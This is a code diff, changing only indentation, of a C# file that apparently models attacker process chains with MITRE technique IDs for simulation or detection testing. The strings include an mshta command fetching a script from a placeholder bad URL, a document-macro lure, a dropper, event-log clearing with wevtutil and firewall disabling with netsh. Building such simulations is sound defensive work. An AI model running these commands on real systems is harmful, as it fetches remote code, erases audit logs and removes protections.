@@ -10,9 +10,9 @@ internal static class UserChains
         "macro-document", [OfficeWorkstation, DeveloperWorkstation], new ChainPart("explorer", new Scene(
             "winword.exe",
             @"<path> /n ""C:\Users\<user>\Downloads\<lure>.docm"" /o """"")
-    {
-        Technique = "T1204.002",
-        Then =
+        {
+            Technique = "T1204.002",
+            Then =
         [
             new(
                 "cmd.exe",
@@ -57,10 +57,10 @@ internal static class UserChains
                 ],
             },
         ],
-    })
-    {
-        After = 1,
-    })
+        })
+        {
+            After = 1,
+        })
     {
         NeedsPerson = true,
     };
@@ -71,9 +71,9 @@ internal static class UserChains
             @"""C:\Windows\System32\mshta.exe"" <=bad-url>/<bad-file>.hta",
             @"""C:\Windows\System32\mshta.exe"" ""E:\<lure>.hta"" ",
             @"""C:\Windows\System32\mshta.exe"" vbscript:Close(Execute(""GetObject(""""script:<=bad-url>/<bad-file>.sct"""")""))")
-    {
-        Technique = "T1218.005",
-        Then =
+        {
+            Technique = "T1218.005",
+            Then =
         [
             new(
                 "powershell.exe",
@@ -123,10 +123,10 @@ internal static class UserChains
                 ],
             },
         ],
-    })
-    {
-        After = 1,
-    })
+        })
+        {
+            After = 1,
+        })
     {
         NeedsPerson = true,
     };
@@ -136,10 +136,10 @@ internal static class UserChains
             "dropper",
             "<path>",
             "<path> -k <hex:16>")
-    {
-        As = "elevated",
-        Technique = "T1204.002",
-        Then =
+        {
+            As = "elevated",
+            Technique = "T1204.002",
+            Then =
         [
             new(
                 "cmd.exe",
@@ -177,10 +177,10 @@ internal static class UserChains
             new("wevtutil.exe", "wevtutil.exe cl Security", "wevtutil  cl System") { Technique = "T1070.001", After = 4 },
             new("netsh.exe", "netsh  advfirewall set allprofiles state off") { Technique = "T1562.004", After = 4, Odds = 0.6 },
         ],
-    })
-    {
-        After = 1,
-    })
+        })
+        {
+            After = 1,
+        })
     {
         NeedsPerson = true,
     };
